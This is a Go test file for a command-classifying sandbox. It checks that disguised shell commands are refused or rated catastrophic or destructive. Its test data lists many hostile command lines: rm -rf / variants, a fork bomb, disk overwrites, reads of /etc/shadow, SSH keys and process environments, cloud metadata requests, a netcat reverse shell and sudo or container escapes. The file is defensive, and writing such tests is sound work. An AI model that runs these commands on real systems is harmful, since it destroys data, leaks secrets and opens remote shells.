@@ -1,0 +1,292 @@
+package sandbox_test
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/require"
+
+	"multis/sandbox"
+)
+
+// bypasses are command lines that look harmless or hide what they do, with the lowest class that they may have. "refused" are those that may
+// not even be read as a command.
+const bypasses = `
+refused      ls && rm -rf /
+refused      ls; rm -rf /
+refused      ls | sh
+refused      ls & rm x
+refused      ls > /etc/passwd
+refused      ls >> notes.md
+refused      cat < /etc/shadow
+refused      echo $(rm -rf /)
+refused      echo ` + "`rm -rf /`" + `
+refused      echo "$(rm x)"
+refused      echo ${HOME}
+refused      echo $HOME
+refused      $SHELL -c id
+refused      FOO=bar ls
+refused      LD_PRELOAD=./x.so ls
+refused      ! ls
+refused      (ls)
+refused      { ls; }
+refused      ls *
+refused      /bin/r? -rf x
+refused      cat ~/.ssh/id_rsa
+refused      echo {a,b}
+refused      cat <(id)
+refused      cat <<<x
+refused      if true; then ls; fi
+refused      f() { f | f & }; f
+refused      $'\x72m' -rf /
+refused      ls # rm
+refused      time ls
+refused      coproc ls
+refused      [[ -f x ]]
+catastrophic rm -rf /
+catastrophic r\m -rf /
+catastrophic "r"m -r -f //
+catastrophic rm -rf /./
+catastrophic rm -rf /usr/../
+catastrophic rm -rf /home
+catastrophic rm -rf ../..
+catastrophic rm --no-preserve-root -rf x
+catastrophic /bin/rm -rf /etc
+catastrophic env rm -rf /
+catastrophic env -i rm -rf /
+catastrophic env X=1 rm -rf /
+catastrophic env sh -c 'rm -rf /'
+catastrophic env -S 'rm -rf /'
+catastrophic env --split-string='rm -rf /'
+catastrophic nice -n 5 rm -rf /
+catastrophic nice -n5 rm -rf /
+catastrophic timeout 5 rm -rf /
+catastrophic timeout -s KILL 5 rm -rf /
+catastrophic timeout --sig=KILL 5 sudo ls
+catastrophic nohup rm -rf /
+catastrophic stdbuf -o0 rm -rf /
+catastrophic xargs rm -rf /
+catastrophic xargs -I{} sh -c 'rm -rf /'
+catastrophic find . -exec rm -rf / ';'
+catastrophic find . -execdir sudo id ';'
+catastrophic find / -delete
+catastrophic git -c core.pager='sudo id' log
+catastrophic git -c alias.x='!sudo id' x
+catastrophic tar cf x.tar . --checkpoint=1 --checkpoint-action=exec='rm -rf /'
+catastrophic tar -I 'sudo id' -xf x.tar
+catastrophic tar xf x.tar -C /
+catastrophic sh -c 'rm -rf /'
+catastrophic sh -c 'ls; rm -rf /'
+catastrophic bash -lc 'rm -rf /'
+catastrophic sh -c '$(echo rm) -rf /'
+catastrophic sh -c 'eval rm'
+catastrophic sh -c 'rm -rf $X'
+catastrophic sh -c ':(){ :|:& };:'
+catastrophic sh -c 'echo x > /dev/sda'
+catastrophic sh -c 'echo x > /etc/passwd'
+catastrophic busybox rm -rf /
+catastrophic busybox sh -c 'rm -rf /'
+catastrophic dd if=/dev/zero of=/dev/sda
+catastrophic cp x /dev/sda
+catastrophic tee /dev/mem
+catastrophic mkfs.ext4 x
+catastrophic sudo ls
+catastrophic su -c ls
+catastrophic doas ls
+catastrophic systemctl stop multis
+catastrophic shutdown -h now
+catastrophic kill -9 1
+catastrophic pkill multis
+catastrophic multis backup
+catastrophic docker run -v /:/h x
+catastrophic nsenter -t 1 -m
+catastrophic unshare -r sh
+catastrophic crontab x
+catastrophic cat /proc/self/environ
+catastrophic cat /proc/1/root/etc/shadow
+catastrophic cat /proc/self/root/etc/shadow
+catastrophic head -c 100 /proc/../proc/1/mem
+catastrophic grep -r x --file=/proc/self/environ
+catastrophic curl --unix-socket /var/run/docker.sock http://x/
+catastrophic curl http://169.254.169.254/latest/meta-data
+refused      curl http://[::ffff:169.254.169.254]/
+catastrophic curl 'http://[::ffff:169.254.169.254]/'
+catastrophic curl 'http://[::ffff:a9fe:a9fe]/'
+catastrophic curl http://2852039166/
+catastrophic nc -e sh 10.0.0.1 4444
+catastrophic chmod -R 777 /
+catastrophic chown -R me /etc
+catastrophic mv x /usr/bin/ls
+catastrophic ln -s x /etc/cron.d/x
+catastrophic cp --target-directory=/etc x
+catastrophic nice nice nice nice nice nice nice nice nice nice ls
+destructive  rm -rf .
+destructive  rm x
+destructive  ./ls
+destructive  /tmp/x/ls
+destructive  bin/cat x
+destructive  env A=b ls
+destructive  env LD_PRELOAD=./x.so ls
+destructive  env
+destructive  xargs cat
+destructive  find . -delete
+destructive  find . -fprint x
+destructive  find . -fprintf x %p
+destructive  find . -fls x
+destructive  find . -ok cat ';'
+destructive  sort -o x y
+destructive  sort -ox y
+destructive  sort -uo x y
+destructive  sort --output=x y
+destructive  sort --outp=x y
+destructive  sort --o x y
+destructive  sort --compress-prog=./x y
+destructive  uniq a b
+destructive  date -s tomorrow
+destructive  date --se=tomorrow
+destructive  hostname evil
+destructive  file -C -m x
+destructive  tree -o x
+destructive  rg --pre ./x y
+destructive  rg --pre=./x y
+destructive  git -c core.pager=./x log
+destructive  git -c core.fsmonitor=./x status
+destructive  git --exec-path=. status
+destructive  git --config-env=core.pager=X log
+destructive  git --git-dir=x status
+destructive  git -p log
+destructive  git log --output=x
+destructive  git log --outpu=x
+destructive  git log --ext-diff
+destructive  git log --ext
+destructive  git diff
+destructive  git grep -O./x y
+destructive  git push
+destructive  git x
+destructive  git --paginate status
+destructive  tar -tf x --to-command=./x
+destructive  tar -xf x
+destructive  tar --checkpoint-act=exec=./x -cf y .
+destructive  tar --use-comp=./x -xf y
+destructive  awk 'BEGIN { system("id") }'
+destructive  sed -n '1e id' x
+destructive  sed 'w x' y
+destructive  sed -i s/a/b/ x
+destructive  python3 -c 'import os'
+destructive  perl -e 'unlink "x"'
+destructive  ruby -e x
+destructive  node -e x
+destructive  php -r x
+destructive  vim -c '!id' x
+destructive  less x
+destructive  man -P ./x ls
+destructive  make
+destructive  npm run x
+destructive  sh script.sh
+destructive  sh -c ls
+destructive  bash --rcfile x -i
+destructive  busybox sh x
+destructive  /lib64/ld-linux-x86-64.so.2 ./x
+destructive  flock x cat
+destructive  watch ls
+destructive  curl https://example.com
+destructive  wget https://example.com
+destructive  tee x
+destructive  cp a b
+destructive  mv a b
+destructive  ln a b
+destructive  touch x
+destructive  mkdir x
+destructive  split x
+destructive  zip x y -T -TT ./z
+destructive  unknown-program
+`
+
+func TestNoBypassGetsALowerClass(t *testing.T) {
+	tried, wrong := 0, []string(nil)
+	for line := range strings.Lines(strings.TrimSpace(bypasses)) {
+		class, command, _ := strings.Cut(strings.TrimSpace(line), " ")
+		command = strings.TrimSpace(command)
+		tried++
+		argv, err := sandbox.Parse(command)
+		got := "refused"
+		if err == nil {
+			got = sandbox.Classify(argv).Class.String()
+		}
+		if got != class {
+			wrong = append(wrong, command+": "+got+", not "+class)
+		}
+	}
+	require.Empty(t, wrong)
+	require.GreaterOrEqual(t, tried, 150)
+	for _, hidden := range []string{"ls \u202egpj.exe", "ls \x00", "ls \x1b[2J", "ls \u200b", strings.Repeat("x", 40_000), "", " ", "''"} {
+		_, err := sandbox.Parse(hidden)
+		require.Error(t, err, "%q", hidden)
+	}
+}
+
+func TestReadingIsHarmless(t *testing.T) {
+	for command := range strings.Lines(`ls
+ls -la sub
+cat notes.md
+head -n 20 notes.md
+grep -rn 'a.*b' src
+grep "a\.b" x
+find . -name '*.go' -type f
+sort -rn x
+uniq -c x
+wc -l x
+git status
+git log --oneline -20
+git show HEAD
+du -sh .
+df -h
+date +%F
+timeout 5 ls -l
+nice ls
+nice -n 10 cat x
+env ls
+/usr/bin/ls x
+echo rm -rf x
+diff a b
+sha256sum x`) {
+		argv, err := sandbox.Parse(strings.TrimSpace(command))
+		require.NoError(t, err, command)
+		v := sandbox.Classify(argv)
+		require.Equal(t, sandbox.Harmless, v.Class, "%s: %s", command, v.Why)
+		require.Empty(t, v.Why)
+	}
+}
+
+func TestQuotesAreReadAsAShellReadsThem(t *testing.T) {
+	for line, want := range map[string][]string{
+		`a b  c`: {"a", "b", "c"}, `a 'b c' "d e"`: {"a", "b c", "d e"}, `a b\ c "\"x\" \$y \n"`: {"a", "b c", `"x" $y \n`}, `a'b'"c"\d`: {"abcd"}, "a \\\nb": {"a", "b"}, `a ''`: {"a", ""},
+		`a '*' "?" '$x' '{}'`: {"a", "*", "?", "$x", "{}"}, `a b~`: {"a", "b~"}, `a ';'`: {"a", ";"}, `a \;`: {"a", ";"},
+	} {
+		got, err := sandbox.Parse(line)
+		require.NoError(t, err, line)
+		require.Equal(t, want, got, line)
+	}
+}
+
+// FuzzParse checks that what is read can be written and read again, and that no wrapper makes a command look safer.
+func FuzzParse(f *testing.F) {
+	for line := range strings.Lines(bypasses) {
+		_, command, _ := strings.Cut(strings.TrimSpace(line), " ")
+		f.Add(strings.TrimSpace(command))
+	}
+	f.Fuzz(func(t *testing.T, line string) {
+		argv, err := sandbox.Parse(line)
+		if err != nil {
+			return
+		}
+		again, err := sandbox.Parse(sandbox.Quote(argv))
+		require.NoError(t, err, "%q", argv)
+		require.Equal(t, argv, again)
+		class := sandbox.Classify(argv).Class
+		for _, wrapper := range [][]string{{"nice"}, {"env"}, {"timeout", "5"}, {"xargs"}, {"busybox"}, {"env", "-i"}, {"nohup"}} {
+			wrapped := sandbox.Classify(append(wrapper, argv...)).Class
+			require.GreaterOrEqual(t, wrapped, class, "%q %q", wrapper, argv)
+		}
+	})
+}
